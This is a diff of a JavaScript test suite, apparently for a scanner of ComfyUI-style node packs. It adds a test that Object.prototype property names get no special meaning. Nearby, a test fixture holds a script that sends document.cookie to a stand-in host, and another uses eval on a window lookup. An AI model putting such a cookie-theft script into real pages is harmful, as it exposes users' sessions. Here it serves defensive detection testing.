@@ -238,6 +238,21 @@ NODE_CLASS_MAPPINGS = {"A": A, ${odd}: A, "\\ud800": A}
     )
   })
 
+  it('gives no meaning to names that every JavaScript object has', async () => {
+    for (const name of Object.getOwnPropertyNames(Object.prototype)) {
+      const files = {
+        '__init__.py': `key = "a".${name}("b")\nparts = key.split("a")\nNODE_CLASS_MAPPINGS = {key: object}\n`,
+        'web/a.js': `eval(window["a".${name}("b")])`,
+        'requirements.txt': `${name}\n`,
+        'pyproject.toml': `[project]\nname = "a"\nreadme = {file = "a.md", content-type = "${name}"}\n`,
+        'a.md': '# A\n',
+      }
+      const { comfy_nodes, traits, readme } = await inspectPack(filesOfRecord(files), parser)
+      assert.deepEqual([comfy_nodes, traits.os, traits.accelerators], [[], [], []], name)
+      assert.equal(readme?.format, 'markdown', name)
+    }
+  })
+
   it('reports scripts of a page that nests too deeply, and a script behind many others', async () => {
     const theft = '<script>fetch("https://example.test/?c=" + document.cookie)</script>'
     const { findings } = await inspectPack(
